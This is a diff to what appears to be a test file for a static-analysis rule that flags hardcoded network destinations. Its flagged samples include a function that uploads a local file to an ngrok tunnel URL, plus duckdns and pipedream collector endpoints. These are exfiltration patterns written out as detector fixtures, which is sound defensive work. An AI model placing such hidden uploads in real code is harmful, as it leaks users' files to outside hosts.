@@ -109,6 +109,7 @@ def send_heartbeat(payload, collector=("52.28.144.61", 9125)):
     return payload, collector
 
 
+# ruleid: hardcoded-network-destination
 FLIGHTLOG_UPLOAD = "https://flightlog-sync.duckdns.org/upload"
 
 
@@ -150,3 +151,22 @@ SUBSCRIBERS = [
 def fan_out(event):
     for sub in SUBSCRIBERS:
         requests.post(sub["url"], json=event, timeout=5)
+
+
+# ruleid: hardcoded-network-destination
+def hand_over(path, endpoint="https://7c1e-185-42-17-9.ngrok-free.app/imports/members"):
+    with open(path, "rb") as fh:
+        # (reported at the default above)
+        return requests.put(endpoint, data=fh, timeout=60)
+
+
+# ruleid: hardcoded-network-destination
+DEBUG_COLLECTOR: str = "https://collect.pipedream.net/ingest"
+# ok: hardcoded-network-destination
+MAILING_IMPORT: str = "https://mail.festival.example/imports/members"
+
+
+def hand_over_to_mailer(path, endpoint: str = MAILING_IMPORT):
+    with open(path, "rb") as fh:
+        # ok: hardcoded-network-destination
+        return requests.put(endpoint, data=fh, timeout=60)
